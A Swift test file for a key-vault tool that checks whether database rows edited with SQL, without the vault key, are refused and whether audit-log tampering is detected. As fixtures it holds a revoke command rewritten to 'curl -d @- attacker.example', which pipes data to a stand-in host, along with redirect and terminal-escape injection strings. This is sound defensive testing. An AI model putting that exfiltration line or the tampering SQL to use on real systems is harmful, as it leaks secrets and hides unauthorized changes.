import Foundation
import GRDB
import Testing
@testable import KeywardenCore
import KeywardenCrypto

/// Someone who can write `vault.db` (or the PostgreSQL database) but has
/// neither keyfile nor passphrase edits rows with SQL (as `sqlite3` or `psql`
/// would); every such edit of a row that decides where a key goes or what
/// runs is an integrity error naming it. Each test runs on both backends.
@Suite("Row MACs: metadata changed without the key is refused")
struct RowAuthenticationTests {
    /// Runs SQL on the file (or the PostgreSQL database) as an attacker
    /// would, then expects `body` to throw an integrity error whose message
    /// contains `names`.
    func expectTampered(_ f: VaultFixture, _ sql: String, names: String, sourceLocation: SourceLocation = #_sourceLocation, _ body: () throws -> Void) throws {
        try f.execute(sql)
        let error = #expect(throws: KeywardenError.self, sourceLocation: sourceLocation) { try body() }
        #expect(error?.kind == .integrity, sourceLocation: sourceLocation)
        #expect(error?.exitCode == 4, sourceLocation: sourceLocation)
        #expect(error?.message.contains(names) == true, "\(error?.message ?? "")", sourceLocation: sourceLocation)
        #expect(error?.message.contains("changed outside Keywarden") == true, sourceLocation: sourceLocation)
    }

    @Test("a provider's base URL rewritten with SQL is refused before anything is sent", arguments: TestBackend.available)
    func providerBaseURL(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        _ = try f.vault.updateProvider("anthropic", baseURL: "https://gateway.example.com", env: nil)
        try expectTampered(f, "UPDATE providers SET base_url = 'https://attacker.example' WHERE name = 'anthropic'", names: "provider 'anthropic'") {
            _ = try f.vault.provider(named: "anthropic")
        }
    }

    @Test("a rotation policy's revoke command rewritten with SQL is refused", arguments: TestBackend.available)
    func policyRevokeCommand(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(revokeCommand: .some("true")))
        try expectTampered(f, "UPDATE rotation_policies SET revoke_command = 'curl -d @- attacker.example'", names: "rotation policy of anthropic/prod") {
            _ = try f.vault.rotationPolicies()
        }
    }

    @Test("a key's state changed with SQL is refused", arguments: TestBackend.available)
    func keyState(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        try expectTampered(f, "UPDATE keys SET state = 'revoked' WHERE id = '\(a.key.id)'", names: "key \(a.key.id) (anthropic/prod)") {
            _ = try f.vault.listKeys(KeyFilter())
        }
    }

    @Test("a token's scopes and expiry changed with SQL are refused", arguments: TestBackend.available)
    func tokenGrant(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        let (token, value) = try f.vault.createToken(name: "ci", scopes: ["dev"], providers: ["anthropic"], ttl: DurationSpec(seconds: 3600))
        try expectTampered(f, "UPDATE agent_tokens SET scopes = '[\"dev\",\"prod\"]', expires_at = NULL", names: "token 'ci' (\(token.id))") {
            _ = try f.vault.authenticate(token: value)
        }
    }

    @Test("an exported file's path changed with SQL is refused", arguments: TestBackend.available)
    func exportedFile(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        try f.vault.rememberExport(path: f.directory.file("app.env"), scope: "prod", format: .dotenv, only: nil)
        try expectTampered(f, "UPDATE exported_files SET path = '/home/victim/.bashrc'", names: "the exported file /home/victim/.bashrc") {
            try f.vault.reexport(path: "/home/victim/.bashrc", reason: "test")
        }
    }

    @Test("a config entry's secret flag cleared with SQL is refused", arguments: TestBackend.available)
    func configSecretFlag(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        _ = try f.vault.setConfig(scope: "prod", name: "DATABASE_URL", value: secret("postgres://u:p@h/db"), secret: true)
        try expectTampered(f, "UPDATE config_entries SET secret = 0", names: "config entry DATABASE_URL in scope prod") {
            _ = try f.vault.listConfig(scope: "prod")
        }
    }

    @Test("a scope's parent changed with SQL is refused", arguments: TestBackend.available)
    func scopeParent(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        try expectTampered(f, "UPDATE scopes SET parent = 'prod' WHERE name = 'dev'", names: "scope 'dev'") {
            _ = try f.vault.listScopes()
        }
    }

    @Test("a keyslot's KDF parameters changed with SQL fail the next unlock as integrity", arguments: TestBackend.available)
    func keyslotParameters(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend, passphrase: "correct horse battery staple")
        try expectTampered(f, "UPDATE keyslots SET kdf_ops = 1, kdf_mem = 8192 WHERE kind = 'passphrase'", names: "keyslot 'passphrase-1'") {
            _ = try f.reopen()
        }
    }

    @Test("a MAC copied from another row does not match", arguments: TestBackend.available)
    func copiedMAC(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        let b = try f.vault.addKey(provider: "anthropic", scope: "dev", label: nil, env: nil, value: secret(TestKeys.anthropic2), activate: false, force: false)
        try expectTampered(f, "UPDATE keys SET state = 'active', mac = (SELECT mac FROM keys WHERE id = '\(a.key.id)') WHERE id = '\(b.key.id)'", names: "key \(b.key.id)") {
            _ = try f.vault.key(id: b.key.id)
        }
    }

    @Test("a row without a MAC is refused, and untouched rows still read", arguments: TestBackend.available)
    func strippedMAC(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        _ = try f.vault.setConfig(scope: "prod", name: "BASE_URL", value: secret("https://x"), secret: false)
        try f.execute("UPDATE keys SET mac = NULL")
        let error = #expect(throws: KeywardenError.self) { try f.vault.revealKey(id: a.key.id) }
        #expect(error?.message.contains("it has no MAC") == true)
        #expect(try f.vault.listConfig(scope: "prod").count == 1)
    }

    static let strip = RowAuthentication.all.map { "UPDATE \($0.name) SET mac = NULL;" }.joined() + "UPDATE vault SET row_macs_pending = 1;"

    /// Turns `f`'s vault into what migration 0004 leaves of a v0.1 vault:
    /// rows without MACs, the flag set, every event hashed in the v1 form
    /// (what v0.1 wrote), `audit_v2_from_seq` = head + 1, and no anchor.
    /// Uses the key, as v0.1 did when it wrote the events.
    func makeMigratedV01(_ f: VaultFixture) throws {
        guard f.backend == .sqlite else { return try makeMigratedV01InPostgres(f) }
        try f.raw().write { db in
            try db.execute(sql: Self.strip + "DROP TRIGGER audit_events_seal_once; DROP TRIGGER audit_events_recorded_locked_once;")
            var previous = AuditTrail.genesisHash
            for record in try AuditEventRecord.order(Column("seq")).fetchAll(db) {
                let hash = try f.vault.chainHash(previous: previous, record, v2From: .max)
                try db.execute(sql: "UPDATE audit_events SET hash = ? WHERE seq = ?", arguments: [hash, record.seq])
                previous = hash
            }
            try db.execute(sql: "UPDATE vault SET audit_head_hash = ?, audit_v2_from_seq = audit_head_seq + 1", arguments: [previous])
            try db.execute(sql: """
                CREATE TRIGGER audit_events_seal_once BEFORE UPDATE OF hash ON audit_events WHEN OLD.hash IS NOT NULL
                BEGIN SELECT RAISE(ABORT, 'audit events are append-only'); END;
                CREATE TRIGGER audit_events_recorded_locked_once BEFORE UPDATE OF recorded_locked ON audit_events WHEN OLD.hash IS NOT NULL
                BEGIN SELECT RAISE(ABORT, 'audit events are append-only'); END;
                """)
        }
        unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
    }

    /// `makeMigratedV01` in a PostgreSQL vault: the events read through the
    /// store, rehashed, and written back with the append-only triggers
    /// disabled for the transaction (as the superuser who migrated could).
    func makeMigratedV01InPostgres(_ f: VaultFixture) throws {
        let records = try f.vault.store.read(f.vault.rows(.verify)) { tx in try tx.auditEvents(after: 0) }
        var previous = AuditTrail.genesisHash
        var sql = Self.strip
        for record in records {
            let hash = try f.vault.chainHash(previous: previous, record, v2From: .max)
            sql += "UPDATE audit_events SET hash = '\(hash)' WHERE seq = \(record.seq);"
            previous = hash
        }
        sql += "UPDATE vault SET audit_head_hash = '\(previous)', audit_v2_from_seq = audit_head_seq + 1"
        try f.executePastAuditTriggers(sql)
        unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
    }

    func expectUpgradeRefused(_ f: VaultFixture, sourceLocation: SourceLocation = #_sourceLocation) {
        let error = #expect(throws: KeywardenError.self, sourceLocation: sourceLocation) { _ = try f.reopen() }
        #expect(error?.kind == .integrity, sourceLocation: sourceLocation)
        #expect(error?.exitCode == 4, sourceLocation: sourceLocation)
        #expect(error?.message.contains("the vault header") == true, "\(error?.message ?? "")", sourceLocation: sourceLocation)
    }

    @Test("the first unlock after migration computes every MAC once; stripping them again cannot re-trigger it", arguments: TestBackend.available)
    func upgrade(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
        _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(revokeCommand: .some("true")))
        try makeMigratedV01(f)
        // A failed unlock after the migration leaves an unsealed event; the upgrade still runs.
        #expect(throws: KeywardenError.self) { _ = try f.reopen(.keyfile(path: "/nonexistent/key")) }
        let upgraded = try f.reopen()
        #expect(try upgraded.key(id: a.key.id).state == .active)
        #expect(try upgraded.rotationPolicies().first?.revokeCommand == "true")
        #expect(try upgraded.auditEvents(AuditFilter()).last?.action == "vault.upgrade")
        #expect(try upgraded.verifyAudit().ok)

        // The attacker strips the MACs and sets the flag to launder a change.
        try f.execute(Self.strip + "UPDATE rotation_policies SET revoke_command = 'evil'")
        expectUpgradeRefused(f)
        // Also when the anchor is gone (another machine): the v2 events after the upgrade remain.
        unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
        expectUpgradeRefused(f)
        // Renaming the upgrade event (without its triggers) does not help.
        try f.executePastAuditTriggers("UPDATE audit_events SET action = 'key.list' WHERE action = 'vault.upgrade'",
                                       sqliteTriggers: ["audit_events_append_only_update"])
        expectUpgradeRefused(f)
        // Nor does moving where the v2 form starts past the end: v2 events do not verify as v1.
        try f.execute("UPDATE vault SET audit_v2_from_seq = audit_head_seq + 1")
        expectUpgradeRefused(f)
    }

    @Test("on a vault created by this version, stripping the MACs and setting the flag is refused (exit 4), anchor or not", arguments: TestBackend.available)
    func retriggerOnNewVault(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(revokeCommand: .some("true")))
        #expect(try f.value("SELECT row_macs_pending FROM vault") == "0")
        #expect(try f.value("SELECT mac FROM vault") != nil)
        try f.execute(Self.strip + "UPDATE rotation_policies SET revoke_command = 'evil'")
        expectUpgradeRefused(f)
        unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
        expectUpgradeRefused(f)
        // Making it look like a migrated v0.1 vault: the head rewound to the
        // events before where v2 "starts", or every event deleted.
        try f.execute("UPDATE vault SET audit_v2_from_seq = audit_head_seq + 1")
        expectUpgradeRefused(f)
        try f.executePastAuditTriggers("""
            DELETE FROM audit_events;
            UPDATE vault SET audit_head_seq = 0, audit_head_hash = '\(AuditTrail.genesisHash)', audit_v2_from_seq = 1
            """, sqliteTriggers: ["audit_events_append_only_delete"])
        expectUpgradeRefused(f)
        try f.execute("UPDATE vault SET audit_v2_from_seq = 2")
        expectUpgradeRefused(f)
        #expect(try f.value("SELECT revoke_command FROM rotation_policies") == "evil")
        #expect(try f.value("SELECT mac FROM rotation_policies") == nil)
    }
}

@Suite("Audit verify: the head is authenticated and anchored; locked-time events stay marked")
struct AuditIntegrityTests {
    func addEvents(_ vault: Vault, _ n: Int) throws {
        for i in 0..<n { try vault.recordAudit(AuditDraft(action: "test.event", outcome: "ok", detail: "event \(i)")) }
    }

    @Test("deleting the newest events and rewinding the stored head is detected", arguments: TestBackend.available)
    func rewoundHead(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        try addEvents(f.vault, 5)
        try f.executePastAuditTriggers("""
            DELETE FROM audit_events WHERE seq > 3;
            UPDATE vault SET audit_head_seq = 3, audit_head_hash = (SELECT hash FROM audit_events WHERE seq = 3)
            """, sqliteTriggers: ["audit_events_append_only_delete"])
        let error = #expect(throws: KeywardenError.self) { _ = try f.vault.verifyAudit() }
        #expect(error?.kind == .integrity)
        #expect(error?.message.contains("the vault header was changed outside Keywarden") == true)
        #expect(throws: KeywardenError.self) { _ = try f.reopen() }
    }

    @Test("an older copy of the whole vault file is detected by the anchor, naming the event")
    func restoredOlderCopy() throws {
        let f = try VaultFixture()
        try addEvents(f.vault, 2)
        let old = f.directory.file("old")
        try FileManager.default.createDirectory(atPath: old, withIntermediateDirectories: true)
        try f.raw().writeWithoutTransaction { db in try db.execute(sql: "VACUUM INTO ?", arguments: [old + "/vault.db"]) }
        chmod(old + "/vault.db", 0o600)
        try addEvents(f.vault, 3)
        let head = try f.vault.verifyAudit()
        #expect(head.ok)
        #expect(head.notes.isEmpty)

        let restored = try Vault.unlock(VaultDatabase.open(at: VaultLocation(directory: old)), with: .keyfile(path: f.keyfile),
                                        context: VaultFixture.context(anchorDirectory: f.anchorDirectory))
        let result = try restored.verifyAudit()
        #expect(!result.ok)
        #expect(result.problem?.contains("records event #") == true)
        #expect(result.firstBadSeq != nil)
        // Writing to the old copy does not overwrite the evidence.
        try addEvents(restored, 1)
        #expect(try !restored.verifyAudit().ok)
    }

    @Test("a missing anchor is recreated with a note, not a failure", arguments: TestBackend.available)
    func missingAnchor(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
        let first = try f.vault.verifyAudit()
        #expect(first.ok)
        #expect(first.notes.first?.contains("no anchor") == true)
        #expect(FileManager.default.fileExists(atPath: AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID)))
        #expect(try f.vault.verifyAudit().notes.isEmpty)
        let mode = SecureFiles.mode(of: f.anchorDirectory).map { $0 & 0o777 }
        #expect(mode == 0o700)
        #expect(SecureFiles.mode(of: AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID)).map { $0 & 0o777 } == 0o600)
    }

    @Test("a forged event inserted as 'written while locked' stays marked unauthenticated after it is sealed", arguments: TestBackend.available)
    func forgedUnsealedEvent(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        try f.execute("""
            INSERT INTO audit_events (seq, at, actor_uid, actor_pid, actor, action, outcome, detail, recorded_locked)
            SELECT MAX(seq) + 1, '2026-01-01T00:00:00.000Z', 1000, 1, 'keywarden key rm', 'key.remove', 'ok', 'forged', 0 FROM audit_events
            """)
        try addEvents(f.vault, 1)
        let events = try f.vault.auditEvents(AuditFilter())
        let forged = try #require(events.first { $0.detail == "forged" })
        #expect(forged.sealed)
        #expect(!forged.authenticated)
        #expect(events.last?.authenticated == true)
        let json = String(decoding: try JSONEncoder().encode(forged), as: UTF8.self)
        #expect(json.contains("\"authenticated\":false"))
        let verified = try f.vault.verifyAudit()
        #expect(verified.ok)
        #expect(verified.unauthenticated == 1)

        // Removing the mark afterwards breaks the chain.
        try f.executePastAuditTriggers("UPDATE audit_events SET recorded_locked = 0 WHERE detail = 'forged'",
                                       sqliteTriggers: ["audit_events_recorded_locked_once"])
        #expect(try !f.vault.verifyAudit().ok)
    }

    @Test("a failed unlock is recorded as unauthenticated", arguments: TestBackend.available)
    func failedUnlock(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend, passphrase: "right")
        #expect(throws: KeywardenError.self) { _ = try f.reopen(.passphrase(secret("wrong"))) }
        try addEvents(f.vault, 1)
        let denied = try #require(try f.vault.auditEvents(AuditFilter()).first { $0.action == "vault.unlock" })
        #expect(!denied.authenticated)
        #expect(try f.vault.verifyAudit().ok)
    }
}

@Suite("Terminal controls are stripped from stored and printed text")
struct DisplayTextTests {
    @Test("C0, C1, DEL and bidi controls become U+FFFD; tabs and newlines a space")
    func sanitized() {
        #expect(DisplayText.sanitized("plain text") == "plain text")
        #expect(DisplayText.sanitized("a\u{1B}[31mred") == "a\u{FFFD}[31mred")
        #expect(DisplayText.sanitized("x\u{9B}2J\u{7F}") == "x\u{FFFD}2J\u{FFFD}")
        #expect(DisplayText.sanitized("abc\u{202E}fed\u{2066}\u{200F}\u{061C}") == "abc\u{FFFD}fed\u{FFFD}\u{FFFD}\u{FFFD}")
        #expect(DisplayText.sanitized("line1\nline2\tend\r") == "line1 line2 end ")
        #expect(DisplayText.sanitized("naïve 日本") == "naïve 日本")
    }

    @Test("an audit event's detail and actor are stored without escapes", arguments: TestBackend.available)
    func storedSanitized(backend: TestBackend) throws {
        let f = try VaultFixture(backend: backend)
        try f.vault.recordAudit(AuditDraft(action: "key.report", outcome: "invalid", detail: "401 \u{1B}[31mfake\u{1B}[0m \u{202E}txt.exe",
                                           actor: AuditActor(uid: 1, pid: 2, name: "agent \u{1B}]0;title\u{07}")))
        let detail = try #require(try f.value("SELECT detail FROM audit_events ORDER BY seq DESC LIMIT 1"))
        let actor = try #require(try f.value("SELECT actor FROM audit_events ORDER BY seq DESC LIMIT 1"))
        for text in [detail, actor] {
            #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E })
        }
        #expect(detail.contains("fake"))
        #expect(try f.vault.verifyAudit().ok)
    }
}
